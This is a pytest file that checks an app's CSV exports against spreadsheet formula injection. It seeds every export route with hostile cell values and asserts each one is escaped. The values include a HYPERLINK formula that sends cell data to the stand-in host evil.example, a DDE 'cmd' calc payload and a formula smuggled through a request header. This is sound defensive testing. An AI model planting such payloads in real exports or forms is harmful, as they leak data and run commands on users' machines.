"""Every CSV export: written by the one shared writer (domain/csv_export.py), and no cell a
spreadsheet would run as a formula, whatever the text came from (a form, a header, an import).
The export routes are found in the app's route table, so a new one fails here until it is
seeded and checked."""

from __future__ import annotations

import ast
import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest

from app.domain.csv_export import FORMULA_STARTS
from app.main import create_app
from app.services import fieldwork_lists
from app.tables import ShiftSignup
from tests.conftest import run
from tests.integration.test_fieldwork import contact, place_in
from tests.integration.test_volunteers import make_shift, make_volunteer, sign_in

APP = Path(__file__).parents[2] / "app"
SHARED = {APP / "domain" / "csv_export.py", APP / "routes" / "downloads.py"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
FORMULA = "-2+3+cmd|' /C calc'!A0"


def seed_field_logs(client) -> tuple[str, list[str]]:
    run(fieldwork_lists.ensure_topics())
    client.sign_in_as("officer")
    data = contact(place_in("TH-01"), subject_name=HYPERLINK, note=FORMULA)
    assert client.post("/field/contacts/new", data=data).status_code == 303
    client.sign_in_as("supervisor")
    return "/field/logs/export.csv?full=true", [HYPERLINK, FORMULA]


def seed_volunteer_hours(client) -> tuple[str, list[str]]:
    shift = make_shift(timedelta(hours=-3), hours=1)
    run(ShiftSignup.insert(ShiftSignup(shift=shift, person=make_volunteer("@SUM(1+1)*cmd"), status="confirmed")))
    sign_in(client, "officer")
    return "/volunteers/hours/export.csv", ["@SUM(1+1)*cmd"]


def seed_audit_log(client) -> tuple[str, list[str]]:
    client.sign_in_as("admin")
    # The request id comes from a header anyone can send; the audit row keeps it.
    created = client.post(
        "/admin/org/agency/new",
        data={"name": "+1+1 部门", "code": "F1", "kind": "other"},
        headers={"X-Request-ID": "-1-1-1-1-1-1"},
    )
    assert created.status_code in (200, 303)
    return "/admin/audit/export.csv", ["-1-1-1-1-1-1"]


def seed_routing_rules(client) -> tuple[str, list[str]]:
    from tests.integration.test_routing import rule_form

    client.sign_in_as("admin")
    assert client.post("/admin/routing", data=rule_form(note=HYPERLINK)).status_code == 303
    return "/admin/routing/export.csv", [HYPERLINK]


def seed_platform_metrics(client) -> tuple[str, list[str]]:
    """An agency named like a formula (an administrator typed it) answers a matter."""
    from app.services import matter_facts
    from app.tables import Agency, Report, ReportCategory, Station

    client.sign_in_as("admin")
    agency = run(Agency.insert(Agency(name=HYPERLINK, code="F2", kind="other")).returning(Agency.id))[0]["id"]
    station = run(Station.select(Station.id).first())["id"]
    category = run(ReportCategory.select(ReportCategory.id).first())["id"]
    report = run(
        Report.insert(Report(category=category, station=station, status="done", answered_by=agency)).returning(
            Report.id
        )
    )[0]["id"]
    run(matter_facts.refresh([report]))  # written directly: the facts the metrics read, as a service would
    return "/metrics/platform.csv?group=agency", [HYPERLINK]


SEEDS = {
    "/metrics/platform.csv": seed_platform_metrics,
    "/admin/routing/export.csv": seed_routing_rules,
    "/field/logs/export.csv": seed_field_logs,
    "/volunteers/hours/export.csv": seed_volunteer_hours,
    "/admin/audit/export.csv": seed_audit_log,
}


def test_every_export_route_is_checked(settings):
    app = create_app(settings)
    exports = {route.path for route in app.routes if route.path.endswith(".csv")}
    assert exports == set(SEEDS), "a new CSV export: seed it in SEEDS so its cells are checked"


@pytest.mark.parametrize("path", sorted(SEEDS))
def test_no_exported_cell_is_a_formula(client, demo, path):
    url, payloads = SEEDS[path](client)
    response = client.get(url)
    assert response.status_code == 200
    cells = [cell for line in csv.reader(io.StringIO(response.text.removeprefix("\ufeff"))) for cell in line]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    for payload in payloads:
        assert "'" + payload in cells
    assert response.content.startswith("\ufeff".encode())  # Excel reads the Chinese only with it
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"  # personal data


def _csv_writers_and_types(source: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
            and node.attr in ("writer", "DictWriter")
        ):
            found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"from csv import {a.name}" for a in node.names if "riter" in a.name]
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and node.value.startswith("text/csv"):
            found.append(node.value)
    return found


def test_only_the_shared_writer_writes_csv():
    """Any other module writing CSV (or sending text/csv) would bypass the formula rule."""
    offenders = {
        str(path.relative_to(APP)): found
        for path in APP.rglob("*.py")
        if path not in SHARED and (found := _csv_writers_and_types(path.read_text()))
    }
    assert offenders == {}
